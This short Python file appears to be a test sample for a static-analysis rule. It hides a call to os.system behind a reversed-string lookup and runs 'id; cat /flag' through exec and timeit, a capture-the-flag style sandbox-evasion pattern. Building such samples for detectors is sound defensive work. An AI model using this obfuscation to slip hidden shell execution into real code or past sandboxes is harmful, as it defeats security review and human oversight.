# Constant, clean code ("run(cmd)", PJ420 at most) executed in a namespace
# whose names are bound at run time to os.system through a computed key, once
# with exec and once through timeit's globals.
import os
import timeit

key = "".join(reversed("metsys"))
ns = {"run": vars(os)[key], "cmd": "id; cat /flag"}
exec("run(cmd)", ns)
timeit.timeit("run(cmd)", globals=ns, number=1)
